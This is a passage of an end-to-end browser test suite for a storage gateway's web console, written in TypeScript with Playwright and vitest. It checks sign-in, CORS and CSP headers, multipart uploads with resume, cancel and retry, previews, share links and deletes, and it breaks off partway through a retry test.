// The web console end to end: the gateway as `npm start` serves it, driven through real Debian
// Chromium (/usr/bin/chromium, installed by scripts/setup.sh) with playwright-core. Every step is
// checked against the gateway itself over S3 (bytes compared by SHA-256), and the main views are
// written to .test-output/screenshots (npm run screenshots: docs/screenshots) for docs/console.md. The console has an origin of its own and
// signs with temporary credentials held in memory; a stored HTML object, opened from the console or
// directly, can read nothing of it (issue #29).
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { createHash, randomBytes } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deflateSync, crc32 } from "node:zlib";
import { AwsClient } from "aws4fetch";
import { chromium, type Browser, type Page, type Response as PageResponse } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CREDENTIALS, Gateway } from "./gateway";

import { SCREENSHOTS } from "./tools";

const CHROMIUM = "/usr/bin/chromium";
const shots = SCREENSHOTS;
const BUCKET = "console-e2e";
const MORE = "console-extra";
const MiB = 1024 * 1024;

const sha256 = (b: Uint8Array) => createHash("sha256").update(b).digest("hex");

/** A w×h RGB PNG (a colour gradient with a little noise, so it is not tiny and is stored sharded). */
function png(w: number, h: number): Buffer {
  const raw = Buffer.alloc((w * 3 + 1) * h);
  const noise = randomBytes(w * h);
  for (let y = 0; y < h; y++) {
    raw[y * (w * 3 + 1)] = 0;
    for (let x = 0; x < w; x++) {
      const o = y * (w * 3 + 1) + 1 + x * 3;
      const n = (noise[y * w + x] ?? 0) % 8;
      raw[o] = Math.min(255, 40 + Math.round((x / w) * 180) + n);
      raw[o + 1] = Math.min(255, 90 + Math.round((y / h) * 120) + n);
      raw[o + 2] = Math.min(255, 200 - Math.round((x / w) * 80) + n);
    }
  }
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type, "ascii"), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(td));
    return Buffer.concat([len, td, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  return Buffer.concat([Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]), chunk("IHDR", ihdr), chunk("IDAT", deflateSync(raw)), chunk("IEND", Buffer.alloc(0))]);
}

/** A mono 16-bit PCM WAV file: `seconds` of a sine tone at `rate` samples per second. */
function wav(seconds: number, rate = 8000, hz = 440): Buffer {
  const samples = Math.round(seconds * rate);
  const out = Buffer.alloc(44 + samples * 2);
  out.write("RIFF", 0, "ascii");
  out.writeUInt32LE(36 + samples * 2, 4);
  out.write("WAVEfmt ", 8, "ascii");
  out.writeUInt32LE(16, 16); // fmt chunk size
  out.writeUInt16LE(1, 20); // PCM
  out.writeUInt16LE(1, 22); // mono
  out.writeUInt32LE(rate, 24);
  out.writeUInt32LE(rate * 2, 28); // bytes per second
  out.writeUInt16LE(2, 32); // block align
  out.writeUInt16LE(16, 34); // bits per sample
  out.write("data", 36, "ascii");
  out.writeUInt32LE(samples * 2, 40);
  for (let i = 0; i < samples; i++) out.writeInt16LE(Math.round(Math.sin((2 * Math.PI * hz * i) / rate) * 12000), 44 + i * 2);
  return out;
}

/** A one-page PDF with a line of text (objects, xref table with exact offsets, trailer). */
function pdf(text: string): Buffer {
  const content = `BT /F1 24 Tf 72 720 Td (${text}) Tj ET`;
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  let body = "%PDF-1.4\n";
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("")}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}

describe.skipIf(!existsSync(CHROMIUM))("web console in Chromium", () => {
  // A webhook for the Notifications panel, on a port where nothing listens: its events fail and,
  // after two attempts, become dead letters.
  const gw = new Gateway({
    vars: {
      SHARDGATE_WEBHOOKS: JSON.stringify({ "console-hook": { url: "http://127.0.0.1:9/events", secret: "console-test-secret" } }),
      SHARDGATE_NOTIFY_ATTEMPTS: "2",
      SHARDGATE_NOTIFY_RETRY_MS: "100",
      SHARDGATE_NOTIFY_RETRY_MAX_MS: "200",
    },
  });
  const work = mkdtempSync(join(tmpdir(), "shardgate-console-"));
  const folder = join(work, "album");
  const files: Record<string, Buffer> = {
    "photo.png": png(480, 300),
    "notes.md": Buffer.from("# Trip notes\n\nA *short* list:\n\n- sunrise at the lake\n- `shardgate` kept every byte\n"),
    "data.json": Buffer.from(JSON.stringify({ shards: 6, k: 4, m: 2, nodes: ["NODE_0", "NODE_1"] })),
    "small.txt": Buffer.from("hello from the console\n"),
    "big.bin": randomBytes(20 * MiB),
  };
  let s3: AwsClient;
  let browser: Browser;
  let page: Page;
  const pageErrors: string[] = [];

  const objectUrl = (key: string, bucket = BUCKET) => `${gw.base}/${bucket}/${key.split("/").map(encodeURIComponent).join("/")}`;
  /** Keys of the multipart uploads open in a bucket (ListMultipartUploads). */
  const openUploads = async (bucket: string) => {
    const res = await s3.fetch(`${gw.base}/${bucket}?uploads`);
    expect(res.status).toBe(200);
    return [...(await res.text()).matchAll(/<Upload>[\s\S]*?<Key>([^<]*)<\/Key>/g)].map((m) => m[1]);
  };
  const resumeRecords = () => page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith("shardgate.upload:")).length);
  /** Shows a bucket's top folder (through the URL hash, as a bookmark would). */
  const showBucket = async (bucket: string) => {
    await page.evaluate(`location.hash = ${JSON.stringify(`#/b/${bucket}/`)}`);
    await page.locator(".drop-hint strong", { hasText: `${bucket}/` }).waitFor();
    await expect.poll(() => page.locator("#list-status").textContent()).toContain("Page 1");
  };
  /** Empties the upload panel of finished and cancelled files (its button shows while it lists any). */
  const clearFinished = async () => {
    const button = page.getByRole("button", { name: "Clear finished" });
    if (await button.isVisible()) await button.click();
    await expect.poll(() => page.locator("li.upload.done:visible, li.upload.cancelled:visible").count()).toBe(0);
  };
  /** One file's row in the upload panel. */
  const uploadRow = (key: string) => page.locator("li.upload", { has: page.getByLabel(`Progress of ${key}`, { exact: true }) });
  /** Signs in on the sign-in page (the console keeps its session in memory: a reload asks again). */
  const signIn = async (p: Page, id: string = CREDENTIALS.accessKeyId, secret: string = CREDENTIALS.secretAccessKey) => {
    await p.getByLabel("Access key").fill(id);
    await p.getByLabel("Secret key").fill(secret);
    await p.getByRole("button", { name: "Sign in" }).click();
  };
  /**
   * Answers the console's "Secret key needed" dialog: the gateway refuses its temporary credentials
   * every change that would outlast them (a bucket's settings, the admin API's changes), and the
   * console sends that request again signed with the key itself, its secret asked for. With the
   * right secret, waits until the dialog has closed (the secret checked, the request sent again).
   */
  const withSecret = async (secret: string = CREDENTIALS.secretAccessKey) => {
    const ask = page.getByRole("dialog", { name: "Secret key needed" });
    await ask.getByLabel("Secret key").fill(secret);
    await ask.getByRole("button", { name: "Continue" }).click();
    if (secret === CREDENTIALS.secretAccessKey) await ask.waitFor({ state: "detached" });
    return ask;
  };
  /**
   * Records the requests of the page that `match` picks as they are answered: "session" (signed
   * with the temporary key) or the access key id that signed it, and the status.
   */
  const recordSent = (match: (method: string, url: URL) => boolean) => {
    const sent: string[] = [];
    const seen = (r: PageResponse) => {
      if (!match(r.request().method(), new URL(r.url()))) return;
      const key = /Credential=([^/]+)\//.exec(r.request().headers().authorization ?? "")?.[1] ?? "";
      sent.push(`${key.startsWith("ASIA") ? "session" : key} ${r.status()}`);
    };
    page.on("response", seen);
    return { sent, stop: () => page.off("response", seen) };
  };
  /** Every storage value of the page's origin (sessionStorage and localStorage), as one text. */
  const storedText = (p: Page) => p.evaluate(() => JSON.stringify([Object.entries(sessionStorage), Object.entries(localStorage)])) as Promise<string>;
  const shot = async (name: string) => {
    await page.evaluate('document.querySelectorAll(".toast").forEach((t) => t.remove())'); // (tests/ has no DOM types)
    await page.screenshot({ path: join(shots, `${name}.png`) });
  };
  /** Holds the browser's UploadPart requests with these part numbers until the returned function is called. */
  const holdParts = async (parts: number[]) => {
    let release!: () => void;
    const held = new Promise<void>((r) => (release = r));
    const match = (url: URL) => url.searchParams.has("uploadId") && parts.includes(Number(url.searchParams.get("partNumber")));
    await page.route(match, async (route) => {
      await held;
      await route.continue().catch(() => undefined); // the page may have been reloaded meanwhile
    });
    return async () => {
      release();
      await page.unroute(match);
    };
  };

  beforeAll(async () => {
    mkdirSync(folder, { recursive: true });
    mkdirSync(shots, { recursive: true });
    for (const [name, bytes] of Object.entries(files)) writeFileSync(join(folder, name), bytes);
    await gw.start();
    s3 = new AwsClient({ ...CREDENTIALS, service: "s3", region: "us-east-1" });
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking"] });
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, colorScheme: "light" });
    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: gw.consoleBase });
    // The classic upload and download paths (the direct path has console-direct.test.ts).
    // (In every page: one the gateway's CSP sandboxes has an opaque origin, without localStorage.)
    await context.addInitScript(() => {
      try {
        localStorage.setItem("shardgate.browserCoding", "off");
      } catch {}
    });
    page = await context.newPage();
    page.on("pageerror", (e) => pageErrors.push(e.message));
  });

  afterAll(async () => {
    await browser?.close();
    await gw.dispose();
    rmSync(work, { recursive: true, force: true });
  });

  it("serves the console on its own origin, sends browsers there from the gateway, while S3 stays S3", async () => {
    expect(new URL(gw.consoleBase).origin).not.toBe(new URL(gw.base).origin);
    const html = await fetch(`${gw.base}/`, { headers: { accept: "text/html,application/xhtml+xml" }, redirect: "manual" });
    expect(html.status).toBe(302);
    expect(html.headers.get("location")).toBe(`${gw.consoleBase}/`);
    // The gateway serves no console any more: its old home redirects to the console's origin.
    const old = await fetch(`${gw.base}/_console/`, { redirect: "manual" });
    expect(old.status).toBe(302);
    expect(old.headers.get("location")).toBe(`${gw.consoleBase}/`);
    // Anonymous S3 requests (no text/html) still get S3's AccessDenied.
    const anon = await fetch(`${gw.base}/`);
    expect(anon.status).toBe(403);
    expect(await anon.text()).toContain("<Code>AccessDenied</Code>");
    // A signed ListBuckets from a client that also accepts HTML is not redirected.
    const signed = await s3.fetch(`${gw.base}/`, { headers: { accept: "text/html" } });
    expect(signed.status).toBe(200);
    expect(await signed.text()).toContain("ListAllMyBucketsResult");
    const index = await fetch(`${gw.consoleBase}/`);
    expect(index.status).toBe(200);
    expect(index.headers.get("content-type")).toContain("text/html");
    expect(index.headers.get("content-security-policy")).toContain("script-src 'self' 'wasm-unsafe-eval'");
    expect(index.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
    expect(index.headers.get("x-content-type-options")).toBe("nosniff");
    expect(await index.text()).toContain("shardgate console");
    // It names its gateway; deep links fall back to the app's index.html; missing bundle files stay 404.
    expect(await (await fetch(`${gw.consoleBase}/config.json`)).json()).toEqual({ gateway: gw.base, region: "us-east-1" });
    expect((await fetch(`${gw.consoleBase}/some/deep/link`)).status).toBe(200);
    expect((await fetch(`${gw.consoleBase}/assets/missing.js`)).status).toBe(404);
    // Nothing of the S3 API answers on the console's origin.
    expect((await fetch(`${gw.consoleBase}/${BUCKET}/x.html`, { method: "PUT", body: "x" })).status).toBe(405);
    // The gateway answers the console's origin CORS on any path, without bucket rules; no other origin.
    const preflight = await fetch(`${gw.base}/_shardgate/admin/keys`, {
      method: "OPTIONS",
      headers: { origin: gw.consoleBase, "access-control-request-method": "PATCH", "access-control-request-headers": "authorization,x-amz-security-token" },
    });
    expect(preflight.status).toBe(204);
    expect(preflight.headers.get("access-control-allow-origin")).toBe(gw.consoleBase);
    expect(preflight.headers.get("access-control-allow-headers")).toBe("authorization, x-amz-security-token");
    const stranger = await fetch(`${gw.base}/`, { headers: { origin: "http://evil.example" } });
    expect(stranger.headers.get("access-control-allow-origin")).toBeNull();
    const fromConsole = await fetch(`${gw.base}/`, { headers: { origin: gw.consoleBase } });
    expect(fromConsole.headers.get("access-control-allow-origin")).toBe(gw.consoleBase);
    expect(fromConsole.headers.get("access-control-expose-headers")).toContain("ETag");
  });

  it("signs in, creates a bucket, uploads a folder (20 MiB multipart) with progress to 100%", async () => {
    // Every request the page signs, by the key it is signed with (Credential=KEY/…).
    const signedWith: { key: string; token: boolean; url: string }[] = [];
    page.on("request", (r) => {
      const auth = r.headers().authorization ?? "";
      const key = /Credential=([^/]+)\//.exec(auth)?.[1];
      if (key) signedWith.push({ key, token: "x-amz-security-token" in r.headers(), url: r.url() });
    });
    await page.goto(`${gw.base}/`);
    expect(new URL(page.url()).origin).toBe(gw.consoleBase);
    await page.getByLabel("Access key").waitFor();
    await shot("sign-in");

    // Wrong secret: a sentence, not XML.
    await page.getByLabel("Access key").fill(CREDENTIALS.accessKeyId);
    await page.getByLabel("Secret key").fill("not-the-secret");
    await page.getByRole("button", { name: "Sign in" }).click();
    await expect.poll(() => page.getByRole("alert").textContent()).toContain("secret key does not match");

    signedWith.length = 0;
    await page.getByLabel("Secret key").fill(CREDENTIALS.secretAccessKey);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("button", { name: "Create bucket" }).waitFor();
    // Signing in exchanged the key for temporary credentials (one STS call signed with it); every
    // other request is signed with the temporary key and its token; nothing is stored.
    expect(signedWith.filter((r) => r.key === CREDENTIALS.accessKeyId).map((r) => r.url)).toEqual([`${gw.base}/`]);
    expect(signedWith.some((r) => r.key.startsWith("ASIA") && r.token)).toBe(true);
    expect(signedWith.filter((r) => r.key !== CREDENTIALS.accessKeyId && !(r.key.startsWith("ASIA") && r.token))).toEqual([]);
    expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
    const stored = await storedText(page);
    expect(stored).not.toContain(CREDENTIALS.secretAccessKey);
    expect(stored).not.toContain("ASIA");

    await page.getByLabel("New bucket name").fill(BUCKET);
    await page.getByRole("button", { name: "Create bucket" }).click();
    // A bucket outlasts the session (and gives its key a grant): signed with the secret, asked for.
    await withSecret();
    await page.getByRole("link", { name: BUCKET }).click();
    expect((await s3.fetch(`${gw.base}/${BUCKET}`, { method: "HEAD" })).status).toBe(200);

    // A whole folder through the folder picker, and one more file through "Upload files".
    // Part 2 of the big file is held back a moment, so progress is seen (and screenshotted) on the way.
    const releasePart2 = await holdParts([2]);
    await page.getByLabel("Upload folder").setInputFiles(folder);
    const extra = join(work, "readme.txt");
    writeFileSync(extra, "uploaded with the Upload files input\n");
    await page.getByLabel("Upload files").setInputFiles(extra);

    // Watch the overall bar: it moves through intermediate values and reaches 100.
    const bar = page.locator("#overall-progress");
    const seen = new Set<number>();
    let midShot = false;
    const deadline = Date.now() + 120_000;
    for (;;) {
      const value = Number(await bar.getAttribute("value").catch(() => "0"));
      const text =
        (await page
          .locator("#overall-text")
          .textContent()
          .catch(() => "")) ?? "";
      seen.add(value);
      if (!midShot && value >= 5 && value <= 90) {
        midShot = true;
        await shot("upload-progress");
        await releasePart2();
      }
      if (value === 100 && text.includes("6 of 6 files uploaded")) break;
      if (text.includes("failed")) throw new Error(`upload failed: ${await page.locator(".upload-panel").textContent()}`);
      if (Date.now() > deadline) throw new Error(`uploads did not finish: ${text}`);
      await page.waitForTimeout(100);
    }
    if (!midShot) await shot("upload-progress");
    await releasePart2();
    expect([...seen].some((v) => v > 0 && v < 100)).toBe(true);
    await expect.poll(() => page.locator("#overall-text").textContent()).toMatch(/^100%/);
    expect(await page.getByLabel("Progress of album/big.bin").getAttribute("value")).toBe("100");

    // Every byte is on the gateway, under album/.
    for (const [name, bytes] of Object.entries(files)) {
      const res = await s3.fetch(objectUrl(`album/${name}`));
      expect(res.status, name).toBe(200);
      expect(sha256(new Uint8Array(await res.arrayBuffer())), name).toBe(sha256(bytes));
    }
    const readme = await s3.fetch(objectUrl("readme.txt"));
    expect(await readme.text()).toBe("uploaded with the Upload files input\n");

    // The 20 MiB file went multipart (3 parts of 8 + 8 + 4 MiB) with CRC32 checksums from the browser.
    const head = await s3.fetch(objectUrl("album/big.bin"), { method: "HEAD", headers: { "x-amz-checksum-mode": "ENABLED" } });
    expect(head.headers.get("etag")).toMatch(/-3"$/);
    expect(head.headers.get("x-amz-checksum-crc32")).toMatch(/-3$/);
    const small = await s3.fetch(objectUrl("album/small.txt"), { method: "HEAD", headers: { "x-amz-checksum-mode": "ENABLED" } });
    expect(small.headers.get("x-amz-checksum-crc32")).toBeTruthy();
    // Nothing left in progress, nothing left to resume.
    const uploads = await (await s3.fetch(`${gw.base}/${BUCKET}?uploads`)).text();
    expect(uploads).not.toContain("<Upload>");
    expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith("shardgate.upload:")).length)).toBe(0);
  });

  it("resumes an interrupted multipart upload after a page reload, sending only the missing parts", async () => {
    const big = randomBytes(20 * MiB);
    const path = join(work, "resume.bin");
    writeFileSync(path, big);
    await page.getByRole("button", { name: "Clear finished" }).click();
    // Parts 1 and 2 never get through; part 3 does. Then the page is reloaded mid-upload.
    const release = await holdParts([1, 2]);
    await page.getByLabel("Upload files").setInputFiles(path);
    await expect.poll(() => page.locator(".upload-panel").textContent(), { timeout: 30_000 }).toContain("part 1 of 3");
    await page.reload();
    await release();
    // Nothing survives a reload but the upload's resume record: signing in again goes on where the page was.
    await signIn(page);
    await page.getByLabel("Upload files").waitFor({ state: "attached" });
    const logFrom = gw.log.length;
    expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith("shardgate.upload:")).length)).toBe(1);
    await page.getByLabel("Upload files").setInputFiles(path);
    await expect.poll(() => page.locator(".upload").textContent(), { timeout: 60_000 }).toContain("100% · 20 MiB in 3 parts (1 resumed)");
    // After the reload only parts 1 and 2 crossed the wire again.
    expect(gw.requests(logFrom).filter((r) => r.op === "UploadPart" && r.status === 200)).toHaveLength(2);
    const res = await s3.fetch(objectUrl("resume.bin"));
    expect(sha256(new Uint8Array(await res.arrayBuffer()))).toBe(sha256(big));
    expect(res.headers.get("etag")).toMatch(/-3"$/);
    expect(await (await s3.fetch(`${gw.base}/${BUCKET}?uploads`)).text()).not.toContain("<Upload>");
    expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith("shardgate.upload:")).length)).toBe(0);
  });

  it("browses into the folder, previews an image, shows details and shares a link", async () => {
    await page.getByRole("link", { name: "album" }).click();
    await page.getByRole("button", { name: "photo.png", exact: true }).waitFor();
    await expect.poll(() => page.locator("nav.crumbs").textContent()).toContain("album");
    for (const name of Object.keys(files)) await page.getByRole("button", { name, exact: true }).waitFor();
    await expect.poll(() => page.locator("#list-status").textContent()).toContain("5 objects");
    await page.getByRole("button", { name: "Clear finished" }).click();
    // The listing comes first: its first rows are in view at 1280×800 without scrolling.
    await page.evaluate("scrollTo(0, 0)");
    const firstRow = await page.locator("table.objects tbody tr").first().boundingBox();
    expect(firstRow && firstRow.y + firstRow.height).toBeLessThanOrEqual(800);
    await shot("bucket-browser");

    // Sorting by size puts big.bin last, then first.
    await page.getByRole("button", { name: "Size" }).click();
    expect(await page.locator("table.objects tbody tr:last-child").textContent()).toContain("big.bin");
    await page.getByRole("button", { name: "Size" }).click();
    expect(await page.locator("table.objects tbody tr:first-child").textContent()).toContain("big.bin");

    await page.getByRole("button", { name: "photo.png", exact: true }).click();
    const img = page.getByRole("img", { name: "Preview of photo.png" });
    await img.waitFor();
    await expect.poll(() => img.evaluate((el) => (el as unknown as { naturalWidth: number }).naturalWidth)).toBe(480);
    await expect.poll(() => page.locator(".details").textContent()).toContain("image/png");
    expect(await page.locator(".details").textContent()).toContain("CRC32");
    // The layout section renders: the gateway's shard layout, or a note where it has none yet.
    await expect.poll(async () => (await page.locator(".layout").textContent()) ?? "").toMatch(/Part 1|Not available/);
    await page.waitForTimeout(200);
    await shot("object-details");

    // Share for 15 minutes (links last no longer than the session's credentials they are signed
    // with): the link works in a fresh browser context (no session, no cookies).
    await page.getByLabel("Link expires after").selectOption({ label: "15 minutes" });
    await page.getByRole("button", { name: "Share", exact: true }).click();
    const link = page.getByLabel("Share link");
    await expect.poll(() => link.inputValue()).toContain("X-Amz-Signature=");
    const url = await link.inputValue();
    expect(new URL(url).searchParams.get("X-Amz-Expires")).toBe("900");
    expect(new URL(url).searchParams.get("X-Amz-Credential")).toMatch(/^ASIA/);
    expect(new URL(url).searchParams.get("X-Amz-Security-Token")).toBeTruthy();
    expect(await page.evaluate("navigator.clipboard.readText()")).toBe(url);
    const fresh = await browser.newContext();
    try {
      const res = await (await fresh.newPage()).goto(url);
      expect(res?.status()).toBe(200);
      expect(sha256(await (res as NonNullable<typeof res>).body())).toBe(sha256(files["photo.png"] as Buffer));
    } finally {
      await fresh.close();
    }
    // User metadata: edited by copying the object onto itself.
    await page.getByRole("button", { name: "Add field" }).click();
    await page.getByLabel("Metadata name 1").fill("camera");
    await page.getByLabel("Metadata value 1").fill("pinhole");
    await page.getByRole("button", { name: "Save metadata" }).click();
    await expect.poll(() => page.locator(".metadata").textContent()).toContain("Metadata saved");
    const after = await s3.fetch(objectUrl("album/photo.png"), { method: "HEAD" });
    expect(after.headers.get("x-amz-meta-camera")).toBe("pinhole");
    expect(after.headers.get("content-type")).toBe("image/png");
    await page.getByRole("button", { name: "Close" }).click();

    // A Markdown preview renders as HTML, not raw text.
    await page.getByRole("button", { name: "notes.md", exact: true }).click();
    await page.locator(".markdown h1", { hasText: "Trip notes" }).waitFor();
    await page.getByRole("button", { name: "Close" }).click();
  });

  it("deletes a batch of selected objects", async () => {
    for (const name of ["notes.md", "data.json", "small.txt"]) await page.getByLabel(`Select ${name}`).check();
    await page.getByRole("button", { name: "Delete selected (3)" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
    await expect.poll(() => page.locator("#list-status").textContent()).toContain("2 objects");
    for (const name of ["notes.md", "data.json", "small.txt"]) expect((await s3.fetch(objectUrl(`album/${name}`), { method: "HEAD" })).status, name).toBe(404);
    for (const name of ["photo.png", "big.bin"]) expect((await s3.fetch(objectUrl(`album/${name}`), { method: "HEAD" })).status, name).toBe(200);
  });

  // The cases below work in a second bucket, so the heal of BUCKET in the next case sees the same objects.
  it("uploads files dropped on the folder view", async () => {
    expect((await s3.fetch(`${gw.base}/${MORE}`, { method: "PUT" })).status).toBe(200);
    await clearFinished();
    await showBucket(MORE);
    await expect.poll(() => page.locator(".listing").textContent()).toContain("This folder is empty");
    const dropped: Record<string, Buffer> = { "dropped.txt": Buffer.from("dropped on the listing\n"), "dropped.bin": randomBytes(3 * MiB) };
    // A real DataTransfer holding Files, as the browser hands it to a drop handler.
    const list = Object.entries(dropped).map(([name, bytes]) => [name, bytes.toString("base64"), name.endsWith(".txt") ? "text/plain" : ""]);
    const dataTransfer = await page.evaluateHandle(`(() => {
      const dt = new DataTransfer();
      for (const [name, b64, type] of ${JSON.stringify(list)}) dt.items.add(new File([Uint8Array.from(atob(b64), (c) => c.charCodeAt(0))], name, { type }));
      return dt;
    })()`);
    const zone = page.locator("section.dropzone");
    await zone.dispatchEvent("dragover", { dataTransfer });
    await expect.poll(() => zone.getAttribute("class")).toContain("dragging");
    await zone.dispatchEvent("drop", { dataTransfer });
    await expect.poll(() => zone.getAttribute("class")).not.toContain("dragging");
    await expect.poll(() => page.locator("#overall-text").textContent(), { timeout: 30_000 }).toContain("2 of 2 files uploaded");
    // The listing reloads by itself once the uploads are done.
    for (const name of Object.keys(dropped)) await page.getByRole("button", { name, exact: true }).waitFor();
    for (const [name, bytes] of Object.entries(dropped)) {
      const res = await s3.fetch(objectUrl(name, MORE));
      expect(res.status, name).toBe(200);
      expect(sha256(new Uint8Array(await res.arrayBuffer())), name).toBe(sha256(bytes));
    }
    expect((await s3.fetch(objectUrl("dropped.txt", MORE), { method: "HEAD" })).headers.get("content-type")).toBe("text/plain");
    await dataTransfer.dispose();
  });

  it("cancels a multipart upload in progress: requests stopped, upload aborted, nothing stored", async () => {
    await clearFinished();
    const path = join(work, "cancel.bin");
    writeFileSync(path, randomBytes(40 * MiB));
    // Parts 1 and 2 get through; 3, 4 and 5 are held in the browser, so the cancel lands mid-way.
    const release = await holdParts([3, 4, 5]);
    try {
      await page.getByLabel("Upload files").setInputFiles(path);
      const row = uploadRow("cancel.bin");
      await expect.poll(() => row.textContent(), { timeout: 30_000 }).toContain("part 2 of 5");
      expect(await openUploads(MORE)).toEqual(["cancel.bin"]);
      const record = await page.evaluate(() => Object.entries(localStorage).find(([k]) => k.startsWith("shardgate.upload:"))?.[1] ?? "{}");
      const uploadId = (JSON.parse(record) as { uploadId?: string }).uploadId ?? "";
      expect(uploadId).not.toBe("");
      const logFrom = gw.log.length;
      await page.getByRole("button", { name: "Cancel upload of cancel.bin" }).click();
      await expect.poll(() => row.locator(".badge").textContent()).toBe("Cancelled");
      expect(await row.getByRole("button", { name: "Cancel upload of cancel.bin" }).isHidden()).toBe(true);
      expect(await row.getByRole("button", { name: "Retry upload of cancel.bin" }).isHidden()).toBe(true);
      // The upload is aborted on the gateway (its stored parts with it), and forgotten by the page.
      await expect.poll(() => openUploads(MORE), { timeout: 10_000 }).toEqual([]);
      await expect
        .poll(() =>
          gw
            .requests(logFrom)
            .filter((r) => r.op === "AbortMultipartUpload")
            .map((r) => r.status),
        )
        .toEqual([204]);
      const parts = await s3.fetch(`${objectUrl("cancel.bin", MORE)}?uploadId=${encodeURIComponent(uploadId)}`);
      expect(parts.status).toBe(404);
      expect(await parts.text()).toContain("NoSuchUpload");
      expect(await resumeRecords()).toBe(0);
    } finally {
      await release();
    }
    expect((await s3.fetch(objectUrl("cancel.bin", MORE), { method: "HEAD" })).status).toBe(404);
    // The cancelled file counts for nothing in the totals.
    await expect.poll(() => page.locator("#overall-text").textContent()).toBe("100% · 0 of 0 files uploaded");
    expect(await openUploads(MORE)).toEqual([]);
  });

  it("cancels a multipart upload while it is being created: the new upload is aborted too", async () => {
    await clearFinished();
    const path = join(work, "cancel-early.bin");
    writeFileSync(path, randomBytes(9 * MiB));
    // CreateMultipartUpload reaches the gateway only after the cancel.
    let release!: () => void;
    const held = new Promise<void>((r) => (release = r));
    let requested = false;
    let created = false;
    const match = (url: URL) => url.searchParams.has("uploads") && url.pathname.endsWith("/cancel-early.bin");
    await page.route(match, async (route) => {
      requested = true;
      await held;
      await route.continue().catch(() => undefined);
      created = true;
    });
    try {
      await page.getByLabel("Upload files").setInputFiles(path);
      const row = uploadRow("cancel-early.bin");
      await expect.poll(() => requested).toBe(true);
      expect(await row.locator(".badge").textContent()).toBe("Uploading");
      await page.getByRole("button", { name: "Cancel upload of cancel-early.bin" }).click();
      await expect.poll(() => row.locator(".badge").textContent()).toBe("Cancelled");
      release();
      await expect.poll(() => created).toBe(true);
      await expect.poll(() => openUploads(MORE), { timeout: 10_000 }).toEqual([]);
    } finally {
      release();
      await page.unroute(match);
    }
    expect(await resumeRecords()).toBe(0);
    expect((await s3.fetch(objectUrl("cancel-early.bin", MORE), { method: "HEAD" })).status).toBe(404);
  });

  it("marks a part that keeps failing, then Retry sends only that part and completes the object", async () => {
    await clearFinished();
    const big = randomBytes(10 * MiB);
    const path = join(work, "retry.bin");
    writeFileSync(path, big);
    // Part 2 gets S3's 500 InternalError on every attempt until Retry is clicked.
    let failing = true;
    let failures = 0;
    const match = (url: URL) => url.searchParams.has("uploadId") && url.searchParams.get("partNumber") === "2" && url.pathname.endsWith("/retry.bin");
    await page.route(match, async (route) => {
      if (!failing || route.request().method() !== "PUT") return route.continue();
      failures++;
      await route.fulfill({
        status: 500,
        contentType: "application/xml",
        body: '<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>InternalError</Code><Message>We encountered an internal error. Please try again.</Message></Error>',
      });
    });
    try {
      const logFrom = gw.log.length;
      await page.getByLabel("Upload files").setInputFiles(path);
      const row = uploadRow("retry.bin");
      // Three attempts (1 s and 2 s apart), then the file is "Failed" with a Retry button.
      await expect.poll(() => row.locator(".badge").textContent(), { timeout: 20_000 }).toBe("Failed");
      expect(failures).toBe(3);
      expect(await row.textContent()).toContain("Part 2 failed");
      expect(await page.locator("#overall-text").textContent()).toContain("1 failed");
      // Part 1 went through; the failed attempts at part 2 never reached the gateway.
      expect(
        gw
          .requests(logFrom)
          .filter((r) => r.op === "UploadPart")
          .map((r) => r.status),
      ).toEqual([200]);
      // The upload stays open on the gateway, so Retry can finish it.
      expect(await openUploads(MORE)).toEqual(["retry.bin"]);
      expect((await s3.fetch(objectUrl("retry.bin", MORE), { method: "HEAD" })).status).toBe(404);

      failing = false;
      const retryFrom = gw.log.length;
      await row.getByRole("button", { name: "Retry upload of retry.bin" }).click();
      await expect.poll(() => row.textContent(), { timeout: 30_000 }).toContain("100% · 10 MiB in 2 parts");
      expect(failures).toBe(3);
      await expect
        .poll(() =>
          gw
            .requests(retryFrom)
            .filter((r) => r.op === "CompleteMultipartUpload")
            .map((r) => r.status),
        )
        .toEqual([200]);
      const ops = gw.requests(retryFrom);
      expect(ops.filter((r) => r.op === "UploadPart").map((r) => r.status)).toEqual([200]);
